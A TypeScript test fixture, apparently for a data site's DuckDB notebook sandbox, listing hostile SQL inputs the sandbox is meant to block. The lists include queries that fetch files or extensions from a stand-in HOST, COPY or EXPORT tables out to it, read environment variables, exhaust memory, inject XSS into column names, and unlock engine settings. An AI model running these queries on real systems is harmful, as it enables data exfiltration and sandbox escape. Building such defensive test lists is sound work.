import {existsSync, readFileSync} from "node:fs";
import {join} from "node:path";
import {PROJECT} from "../../site/project.js";

/** Addresses, files and tables as SQL may name them. HOST is a host that must never be asked. */
const FILES = ["http://HOST/x.csv", "https://HOST/x.parquet", "s3://HOST/x.parquet", "x.csv"];

/** Ways to say “this table” around a file. */
const READINGS = [
  (file: string) => `SELECT * FROM '${file}'`,
  (file: string) => `SELECT * FROM "${file}"`,
  (file: string) => `SELECT * FROM read_csv_auto('${file}')`,
  (file: string) => `SELECT * FROM parquet_scan(['${file}'])`,
  (file: string) => `SELECT * FROM tiles AS values, '${file}'`,
  (file: string) => `SELECT * FROM tiles AS sample, "${file}"`,
  (file: string) => `SELECT * FROM tiles qualify, '${file}' e`,
  (file: string) => `SELECT * FROM tiles POSITIONAL JOIN '${file}'`,
  (file: string) => `WITH a AS (FROM tiles AS values, '${file}') FROM a`,
  (file: string) => `SELECT * FROM (DESCRIBE '${file}')`,
  (file: string) => `SELECT * FROM (SUMMARIZE '${file}')`,
  (file: string) => `FROM (PIVOT_LONGER "${file}" ON a INTO NAME n VALUE v)`,
  (file: string) => `SELECT * FROM (PIVOT_WIDER '${file}' ON a)`,
  (file: string) => `SELECT * FROM tiles WHERE 1 IN (SELECT 1 FROM tiles AS values, '${file}')`
];

/** What makes the engine fetch, or tell of itself. */
const OTHERS = [
  "SELECT * FROM 'places.parquet' LIMIT 1",
  'SELECT e.* FROM (SELECT 1) AS values, "places.parquet" e LIMIT 1',
  "INSTALL httpfs",
  "LOAD 'http://HOST/x.duckdb_extension.wasm'",
  "SET custom_extension_repository='http://HOST'; INSTALL json",
  "CREATE TABLE far AS SELECT * FROM 'http://HOST/x.csv'",
  "CREATE VIEW far AS SELECT * FROM read_parquet('http://HOST/x.parquet')",
  "CREATE MACRO far() AS TABLE SELECT * FROM 'http://HOST/x.parquet'",
  "FROM far()",
  "PREPARE far AS SELECT * FROM 'http://HOST/x.csv'",
  "EXPLAIN ANALYZE SELECT * FROM 'http://HOST/x.csv'",
  "SELECT 1; SELECT * FROM 'http://HOST/x.csv'",
  "SELECT * FROM glob('http://HOST/*')",
  "SELECT * FROM read_text('http://HOST/x')",
  "SELECT * FROM read_blob('http://HOST/x')",
  "SELECT * FROM read_json_auto('http://HOST/x.json')",
  "SELECT * FROM sniff_csv('http://HOST/x.csv')",
  "SELECT * FROM parquet_metadata('http://HOST/x.parquet')",
  "SELECT * FROM parquet_schema('http://HOST/x.parquet')",
  "SELECT * FROM query_table('http://HOST/x.csv')",
  "SELECT * FROM st_read('http://HOST/x')",
  "SELECT * FROM sqlite_scan('http://HOST/x.db', 't')",
  "SELECT list_transform([1], x -> (SELECT count(*) FROM 'http://HOST/x.csv'))",
  "SELECT * FROM (VALUES ('a')) t(f), LATERAL (SELECT * FROM 'http://HOST/x.csv')",
  "SELECT (SELECT 1 FROM tiles values, 'http://HOST/x.csv')",
  "SELECT * FROM tiles ASOF JOIN 'http://HOST/x.csv' x ON true",
  "SELECT * FROM tiles ANTI JOIN 'http://HOST/x.csv' USING (a)",
  "TABLE 'http://HOST/x.csv'",
  'TABLE "http://HOST/x.csv"',
  "FROM\u00a0'http://HOST/x.csv'",
  "FROM/* ' */'http://HOST/x.csv'--'",
  "SELECT * FROM E'http://HOST/x.csv'",
  "SELECT * FROM $$http://HOST/x.csv$$",
  "SELECT * FROM U&'http://HOST/x.csv'",
  "PIVOT 'http://HOST/x.csv' ON a",
  "UNPIVOT 'http://HOST/x.csv' ON a",
  "SUMMARIZE 'http://HOST/x.csv'",
  "DESCRIBE SELECT * FROM 'http://HOST/x.csv'",
  "FROM 'http://HOST/x.csv' SELECT a",
  "SELECT 1 QUALIFY (SELECT count(*) FROM 'http://HOST/x.csv') = row_number() OVER ()",
  "SELECT 1 ORDER BY (SELECT a FROM 'http://HOST/x.csv')",
  "SELECT level FROM tiles GROUP BY ALL HAVING (SELECT true FROM 'http://HOST/x.csv')",
  "VALUES ((SELECT a FROM 'http://HOST/x.csv'))",
  "SELECT 1 LIMIT (SELECT count(*) FROM 'http://HOST/x.csv')",
  "SELECT [x FOR x IN (SELECT list(a) FROM 'http://HOST/x.csv')]",
  "SELECT COLUMNS('a') FROM 'http://HOST/x.csv'",
  "WITH RECURSIVE r AS (SELECT 1 AS a UNION ALL SELECT x.a FROM r, 'http://HOST/x.csv' x) FROM r",
  "WITH x AS MATERIALIZED (FROM 'http://HOST/x.csv') SELECT 1 FROM x",
  "SELECT * FROM tiles TABLESAMPLE 10%, 'http://HOST/x.csv'",
  "SELECT * FROM 'http://HOST/*.parquet'",
  "SELECT * FROM read_csv(['x.csv', 'http://HOST/x.csv'], columns = {'a': 'INT'})",
  "SELECT * FROM read_csv_auto('http://HOST/x.csv', filename = true, sample_size = -1)",
  "CREATE TEMP TABLE near AS FROM 'http://HOST/x.csv'",
  "INSERT INTO tiles SELECT * FROM 'http://HOST/x.csv'",
  "UPDATE tiles SET place_id = x.a FROM 'http://HOST/x.csv' x",
  "DELETE FROM tiles USING 'http://HOST/x.csv' x WHERE true",
  "CALL read_parquet('http://HOST/x.parquet')",
  "SELECT * FROM query_table('tiles')",
  "SELECT list_transform([1], x -> read_parquet('http://HOST/x'))",
  "SELECT * FROM sqlite_schema",
  "SELECT * FROM pragma_database_size()",
  "SHOW ALL TABLES",
  "SELECT repeat('ab', 150000000) AS r",
  "SELECT json_extract('{\"a\":1}', '$.a')",
  "SELECT '{\"a\":1}'::JSON",
  "SELECT timezone('Asia/Ho_Chi_Minh', TIMESTAMP '2020-01-01')",
  "SELECT now() AT TIME ZONE 'Asia/Ho_Chi_Minh'",
  "SELECT stem('running', 'english')",
  "SELECT '1.2.3.4'::INET",
  "SELECT ST_Point(1, 2)",
  "SELECT excel_text(1, '0')",
  "SELECT * FROM tpch_queries()",
  "PRAGMA version",
  "SELECT version(), getenv('HOME'), current_setting('memory_limit')",
  "SELECT * FROM duckdb_settings()",
  "SELECT * FROM information_schema.tables",
  "SELECT * FROM pg_catalog.pg_tables",
  "SELECT txid_current(), current_user, current_database(), current_schema()",
  "SELECT error('x')",
  "SELECT nextval('s')",
  "SELECT '<img src=x onerror=window.__ran=1>' AS \"<svg onload=window.__ran=2>\", '</script>' AS b",
  'SELECT 1 AS "__proto__", 2 AS "constructor", 3 AS "toString"'
];

/** What makes the engine open a file in order to write, or to run what it says. It does not come back of a refusal. */
const WRITES = [
  "ATTACH 'http://HOST/x.db' AS far",
  "COPY places TO 'http://HOST/x'",
  "COPY (SELECT 1) TO 's3://HOST/x' (FORMAT PARQUET)",
  "EXPORT DATABASE 'http://HOST/x'",
  "IMPORT DATABASE 'http://HOST/x'",
  "SELECT 1; COPY places TO 'http://HOST/x'"
];

const at =
  (host: string) =>
  (sql: string): string =>
    sql.replaceAll("HOST", host);

/** SQL that reads a file which is not of the site, in each of many ways. */
export const readings = (host: string): string[] =>
  FILES.flatMap((file) => READINGS.map((read) => read(file))).map(at(host));

/** SQL that asks for something else with which a notebook has no business. */
export const others = (host: string): string[] => OTHERS.map(at(host));

/** SQL that writes to another host. */
export const writes = (host: string): string[] => WRITES.map(at(host));

/** Others of these kinds lie beside some checkouts of the project. */
const BESIDE = join(PROJECT, "..", "shared", "hostile", "notebook-sql.json");

/** What they are; none where there are none. */
export const beside = (host: string): string[] =>
  existsSync(BESIDE) ? (JSON.parse(readFileSync(BESIDE, "utf8")) as string[]).map(at(host)) : [];

/** How the engine is set must not be changed by a query, nor set back. */
export const SETTINGS = [
  "SET enable_external_access=true",
  "SET lock_configuration=false",
  "SET memory_limit='9GB'",
  "SET autoload_known_extensions=true",
  "SET GLOBAL s3_endpoint='HOST'",
  "RESET lock_configuration",
  "PRAGMA memory_limit='9GB'"
];
